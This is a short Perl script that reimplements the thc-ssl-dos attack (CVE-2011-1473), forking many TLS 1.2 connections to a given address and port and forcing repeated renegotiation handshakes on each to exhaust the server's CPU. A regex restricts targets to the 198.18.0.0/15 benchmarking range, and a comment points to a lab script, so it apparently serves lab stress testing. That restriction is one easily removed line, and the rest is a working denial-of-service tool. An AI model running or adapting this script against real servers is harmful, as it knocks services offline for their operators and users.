#!/usr/bin/perl
# sslreneg.pl ADDR PORT CONNECTIONS RENEGOTIATIONS SECONDS -- what thc-ssl-dos does (The
# Hacker's Choice, 2011; CVE-2011-1473): CONNECTIONS TLS 1.2 connections to ADDR:PORT, each
# asking for a new handshake (SSL_renegotiate, SSL_do_handshake) RENEGOTIATIONS times, as fast
# as the server completes them, or until SECONDS have passed. ADDR must lie in 198.18.0.0/15.
# (Net::SSLeay: Debian's libnet-ssleay-perl; lab/iot.sh)
use strict;
use warnings;
use Net::SSLeay qw(die_now);
use IO::Socket::INET;
my ($addr, $port, $conns, $renegs, $secs) = @ARGV;
die "usage: $0 ADDR PORT CONNECTIONS RENEGOTIATIONS SECONDS\n" unless defined $secs;
die "$addr is not in 198.18.0.0/15\n" unless $addr =~ /^198\.(18|19)\.\d+\.\d+$/;
Net::SSLeay::load_error_strings();
Net::SSLeay::SSLeay_add_ssl_algorithms();
my $end = time + $secs;
my @kids;
for my $k (1 .. $conns) {
    my $pid = fork();
    die "fork: $!\n" unless defined $pid;
    if ($pid == 0) {
        my $s = IO::Socket::INET->new(PeerAddr => $addr, PeerPort => $port, Timeout => 3) or exit 1;
        my $ctx = Net::SSLeay::CTX_new() or exit 1;
        Net::SSLeay::CTX_set_max_proto_version($ctx, Net::SSLeay::TLS1_2_VERSION());
        my $ssl = Net::SSLeay::new($ctx);
        Net::SSLeay::set_fd($ssl, fileno($s));
        exit 1 if Net::SSLeay::connect($ssl) <= 0;
        for my $i (1 .. $renegs) {
            last if time >= $end;
            last if Net::SSLeay::renegotiate($ssl) <= 0;
            last if Net::SSLeay::do_handshake($ssl) <= 0;
        }
        Net::SSLeay::shutdown($ssl);
        exit 0;
    }
    push @kids, $pid;
}
waitpid($_, 0) for @kids;
